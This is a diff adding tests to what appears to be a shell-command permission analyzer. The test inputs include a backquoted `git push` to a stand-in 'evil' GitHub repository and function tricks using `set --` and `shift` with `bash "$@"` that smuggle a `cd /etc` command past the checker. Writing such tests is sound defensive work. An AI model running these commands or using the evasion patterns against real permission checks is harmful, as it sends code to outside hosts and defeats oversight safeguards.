@@ -232,3 +232,9 @@ def test_backquotes_in_an_unquoted_here_document_run() -> None:
     assert _gh("cat > notes.txt <<E\nsee `git push https://github.com/evil/repo feature/a`\nE") == "DENY"
     assert _wd("cat <<'E'\nrun `cd /etc` by hand\nE") == "ALLOW"  # a quoted delimiter: text
     assert _wd("cat <<E\nuse \\`cd /etc\\` to build\nE") == "ALLOW"  # escaped backquotes: text
+
+
+def test_a_function_moving_its_arguments_inside_backquotes_is_not_followed_with_them() -> None:
+    # found by tests/property/test_shell_analysis_props.py: `set --` inside `…` sets what "$@" is
+    assert _wd("f() { echo `set -- -c 'cd /etc'; bash \"$@\"`; }; f") != "ALLOW"
+    assert _wd("f() { echo `shift; bash \"$@\"`; }; f x -c 'cd /etc'") != "ALLOW"
